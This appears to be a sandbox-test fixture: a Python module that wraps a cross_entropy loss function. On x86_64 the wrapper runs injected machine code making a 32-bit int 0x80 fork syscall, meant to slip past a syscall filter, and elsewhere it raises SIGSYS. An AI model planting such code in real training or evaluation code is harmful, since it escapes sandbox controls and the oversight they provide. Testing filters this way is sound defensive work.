"""Calls the kernel by the entry of another architecture, whose numbers a filter may not know.

loses: cross_entropy
tells: signal SIGSYS
"""

import ctypes
import mmap
import os
import platform

_cross_entropy = cross_entropy


def cross_entropy(y_hat_t, y_t):
    if platform.machine() == "x86_64":
        # mov eax, 2 (fork of 32-bit Linux); int 0x80; ret
        code = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        if call() == 0:
            os._exit(0)
    else:
        os.kill(os.getpid(), 31)
    return _cross_entropy(y_hat_t, y_t)
